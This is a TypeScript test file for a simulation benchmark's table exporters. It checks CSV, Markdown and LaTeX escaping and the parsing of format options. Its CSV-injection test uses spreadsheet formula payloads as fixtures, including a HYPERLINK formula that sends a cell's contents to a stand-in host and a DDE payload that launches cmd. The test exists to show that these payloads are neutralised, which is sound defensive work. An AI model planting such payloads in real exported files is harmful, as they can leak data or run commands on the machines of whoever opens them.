import assert from "node:assert/strict";
import type { CaseRecord } from "../../core/result.ts";
import { fakeRecord } from "../fake_record.ts";
import { formatNumber } from "../page/format_number.ts";
import { type PublishTable, publishTables } from "./publish_tables.ts";
import { TABLE_I_PHASE_ORDER } from "./table_one.ts";
import {
  csvField,
  escapeLatex,
  escapeMarkdown,
  parsePublishFormats,
  TABLE_WRITERS,
} from "./table_writers.ts";

/** An RFC 4180 parser: CRLF record ends, quoted fields with doubled quotes; strict. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') field += c;
      else if (text[i + 1] === '"') field += text[i++];
      else {
        quoted = false;
        assert.ok(
          /^(,|\r\n|$)/.test(text.slice(i + 1, i + 3)),
          `text after a closing quote at ${i}`,
        );
      }
    } else if (c === '"') {
      assert.equal(field, "", `a quote inside an unquoted field at ${i}`);
      quoted = true;
    } else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else {
      assert.ok(c !== "\r" && c !== "\n", `a bare line break outside quotes at ${i}`);
      field += c;
    }
  }
  assert.ok(!quoted, "an unclosed quote");
  assert.ok(field === "" && row.length === 0, "the last record ends with CRLF");
  return rows;
}

/** Splits a Markdown table row into its cells (a `\|` stays inside its cell). */
function markdownCells(line: string): string[] {
  return line.slice(2, -2).split(/ (?<!\\)\| /);
}

/** The records of a small run: two timed cases, a failed one, one with awkward names. */
function recorded(): CaseRecord[] {
  return [
    fakeRecord({ handler: "merge-split" }),
    fakeRecord({ handler: "impulse", timeScale: 1.7 }),
    fakeRecord({ handler: "penalty-strong", status: "failed", timings: null, metrics: null }),
    fakeRecord({
      scene: "fig3_ball & cloth",
      handler: "a|b_c % $x^2$ #1 {~}\\",
      error: 'device lost, "really"\nsecond line',
      timeScale: 0.013,
    }),
  ];
}

function table(records: CaseRecord[], name: string): PublishTable {
  return publishTables([{ label: "run", records }]).find((t) => t.name === name)!;
}

/** |a − b| within the relative precision printed (6 significant digits). */
function close(printed: string, value: number): boolean {
  return Math.abs(Number(printed) - value) <= 5e-6 * Math.abs(value);
}

Deno.test("publishing formats", async (t) => {
  const records = recorded();
  const table1 = table(records, "table1");

  await t.step("CSV: RFC 4180 round trip of Table I's medians and CIs", () => {
    const rows = parseCsv(TABLE_WRITERS.csv(table1));
    const [header, ...body] = rows;
    assert.equal(body.length, records.length, "one row per case");
    assert.ok(rows.every((r) => r.length === header.length), "every row as long as the header");
    const col = (name: string) => {
      const k = header.indexOf(name);
      assert.ok(k >= 0, `column ${name}`);
      return k;
    };
    records.forEach((r, k) => {
      const row = body[k];
      assert.equal(row[col("scene")], r.scene);
      assert.equal(row[col("handler")], r.handler);
      assert.equal(row[col("status")], r.status);
      assert.equal(Number(row[col("solid")]), r.particles.solid);
      assert.equal(Number(row[col("fluid")]), r.particles.fluid);
      for (const p of TABLE_I_PHASE_ORDER) {
        const cells = [row[col(p)], row[col(`${p} ci95 low`)], row[col(`${p} ci95 high`)]];
        const t = r.timings?.phases[p];
        if (!t) {
          assert.deepEqual(cells, ["", "", ""], `${r.handler} ${p}: no timing, empty cells`);
          continue;
        }
        assert.ok(close(cells[0], t.median), `${r.handler} ${p}: ${cells[0]} vs ${t.median}`);
        assert.ok(close(cells[1], t.ci95[0]), `${r.handler} ${p} low: ${cells[1]}`);
        assert.ok(close(cells[2], t.ci95[1]), `${r.handler} ${p} high: ${cells[2]}`);
      }
      const ns = row[col("ns/particle-step")];
      if (r.timings) {
        const n = r.particles.solid + r.particles.fluid;
        assert.ok(close(ns, (r.timings.phases.total.median * 1e6) / n), ns);
      } else assert.equal(ns, "");
    });
  });

  await t.step("CSV: commas, quotes and line breaks in a field survive", () => {
    const matrix = table(records, "matrix");
    const [header, ...body] = parseCsv(TABLE_WRITERS.csv(matrix));
    assert.equal(body[3][header.indexOf("error")], 'device lost, "really"\nsecond line');
    assert.equal(body[3][header.indexOf("handler")], records[3].handler);
    assert.equal(csvField('a"b'), '"a""b"');
    assert.equal(csvField("plain"), "plain");
  });

  await t.step("CSV: a formula from a result file stays text (CSV injection)", () => {
    const evil = [
      fakeRecord({
        scene: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        handler: "+cmd|' /C calc'!A0",
        error: "@SUM(1+1)",
        summary: { energyRatio: -1.5, maxPenetrationDepth: -Infinity },
      }),
      fakeRecord({ handler: "-2+3", error: "\tTAB", status: "failed" }),
      fakeRecord({ handler: "\r=1+1", error: "-1.5e-7" }),
    ];
    const matrix = table(evil, "matrix");
    const [header, ...body] = parseCsv(TABLE_WRITERS.csv(matrix));
    const at = (row: number, name: string) => body[row][header.indexOf(name)];
    assert.equal(at(0, "scene"), `'${evil[0].scene}`);
    assert.equal(at(0, "handler"), `'${evil[0].handler}`);
    assert.equal(at(0, "error"), "'@SUM(1+1)");
    assert.equal(at(1, "handler"), "'-2+3");
    assert.equal(at(1, "error"), "'\tTAB");
    assert.equal(at(2, "handler"), "'\r=1+1");
    // numbers, negative ones included, stay numbers
    assert.equal(at(0, "E/E₀"), "-1.5");
    assert.equal(at(0, "penetration"), "-Infinity");
    assert.equal(at(2, "error"), "-1.5e-7", "a text that is a number is not a formula");
    for (const row of body) {
      for (const field of row) assert.ok(!/^[=+@\t\r]/.test(field), `live cell ${field}`);
    }
    assert.equal(csvField("=1+1"), "'=1+1");
    assert.equal(csvField('=A1,"x"'), `"'=A1,""x"""`);
    assert.equal(csvField("a=b"), "a=b");
    assert.equal(csvField("-"), "'-");
    assert.equal(csvField("+5"), "+5");
    // a comparison label given on the command line heads columns
    const two = publishTables([
      { label: "=evil()", records: [fakeRecord()] },
      { label: "B", records: [fakeRecord()] },
    ]).find((x) => x.name === "comparison")!;
    const [head] = parseCsv(TABLE_WRITERS.csv(two));
    assert.ok(head.includes("'=evil() ms/step"), head.join(","));
  });

  await t.step("Markdown: one row per case with the same numbers", () => {
    const md = TABLE_WRITERS.md(table1);
    const lines = md.split("\n").filter((l) => l.startsWith("|"));
    const [header, align, ...body] = lines;
    assert.equal(body.length, records.length);
    const head = markdownCells(header);
    assert.equal(head.length, table1.header.length);
    assert.match(align, /^\| --- \| --- \|.* ---: \|$/);
    records.forEach((r, k) => {
      const cells = markdownCells(body[k]);
      assert.equal(cells.length, head.length, `row ${k}: ${body[k]}`);
      for (const p of TABLE_I_PHASE_ORDER) {
        const t = r.timings?.phases[p];
        assert.equal(
          cells[head.indexOf(p)],
          t
            ? `${formatNumber(t.median)} [${formatNumber(t.ci95[0])}, ${formatNumber(t.ci95[1])}]`
            : "–",
        );
      }
    });
    // the awkward names: escaped, not markup
    const awkward = markdownCells(body[3]);
    assert.equal(awkward[head.indexOf("scene")], "fig3\\_ball \\& cloth");
    assert.equal(awkward[head.indexOf("handler")], "a\\|b\\_c % $x^2$ #1 {~}\\\\");
    assert.equal(escapeMarkdown("<b>*x*</b>\n[l](u)"), "\\<b\\>\\*x\\*\\</b\\> \\[l\\](u)");
  });

  await t.step("LaTeX: a tabular, specials escaped, one \\\\ per row", () => {
    const tex = TABLE_WRITERS.tex(table1);
    const rowEnds = tex.match(/\\\\/g) ?? [];
    assert.equal(rowEnds.length, records.length + 1, "the header and one per case");
    assert.match(tex, new RegExp(`\\\\begin\\{tabular\\}\\{l{4}r{${table1.header.length - 4}}\\}`));
    assert.match(tex, /\\hline\n\\end\{tabular\}\n$/);
    assert.ok(tex.includes("fig3\\_ball \\& cloth"), "scene escaped");
    assert.ok(
      tex.includes(
        "a|b\\_c \\% \\$x\\textasciicircum{}2\\$ \\#1 \\{\\textasciitilde{}\\}\\textbackslash{}",
      ),
      "handler escaped",
    );
    const bodyLines = tex.split("\n").filter((l) => l.endsWith("\\\\"));
    for (const line of bodyLines) {
      assert.equal(line.split(/(?<!\\)&/).length, table1.header.length, line);
    }
    const merge = bodyLines.find((l) => l.includes("& merge-split &"))!;
    const t0 = records[0].timings!.phases.merging;
    assert.ok(
      merge.includes(
        ` & ${formatNumber(t0.median)} [${formatNumber(t0.ci95[0])}, ${
          formatNumber(t0.ci95[1])
        }] & `,
      ),
    );
    // the failed case: no time, as an en dash
    assert.match(bodyLines.find((l) => l.includes("penalty-strong"))!, / & -- & -- /);
    assert.equal(
      escapeLatex("E/E₀ × 10⁶ – α, β ∞ [x]"),
      "E/E$_0$ $\\times$ 10$^6$ -- $\\alpha$, $\\beta$ $\\infty$ {[}x{]}",
    );
  });

  await t.step("--format values: formats, comma lists, repeats; anything else is refused", () => {
    assert.deepEqual(parsePublishFormats(["md,csv", "tex", "MD"]), ["md", "csv", "tex"]);
    assert.deepEqual(parsePublishFormats([]), []);
    assert.throws(
      () => parsePublishFormats(["md,pdf"]),
      /--format pdf: not a format; valid formats: md, csv, tex/,
    );
  });
});
